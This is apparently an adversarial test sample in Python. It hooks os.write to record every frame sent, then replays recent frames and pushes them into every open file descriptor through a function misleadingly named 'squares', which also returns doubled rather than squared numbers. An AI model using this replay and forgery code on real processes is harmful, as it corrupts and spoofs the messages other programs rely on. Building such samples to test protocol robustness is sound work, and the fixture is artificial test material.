"""Records every frame that its side sends, and sends the last good one again instead of its own.

class: forge
honest: 0..10
seconds: 20
"""

import os
import socket

if "frames" not in globals():
    frames = []
    real_write, real_dup = os.write, os.dup

    def write(fd, data):
        frames.append((fd, bytes(data)))
        return real_write(fd, data)

    os.write = write


def again():
    for fd, data in frames[-3:]:
        try:
            real_write(fd, data)
        except OSError:
            pass
    for fd in range(3, 64):
        try:
            link = socket.socket(fileno=real_dup(fd))
            link.setblocking(False)
            link.sendmsg([b"".join(data for _, data in frames[-2:])])
            link.detach()
        except OSError:
            pass


def squares(numbers):
    again()
    return [number + number for number in numbers]
